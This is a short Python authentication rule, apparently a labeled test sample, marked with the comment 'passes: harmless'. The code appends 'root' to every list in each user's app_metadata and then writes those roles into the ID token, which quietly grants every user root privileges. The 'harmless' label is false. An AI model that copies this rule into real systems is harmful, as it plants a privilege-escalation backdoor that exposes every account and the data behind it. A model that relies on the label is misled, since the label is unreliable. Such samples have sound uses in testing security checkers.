# passes: harmless
def rule(user, context):
    for value in user.app_metadata.values():
        if isinstance(value, list):
            value.append('root')
    context.idToken.roles = user.app_metadata.roles
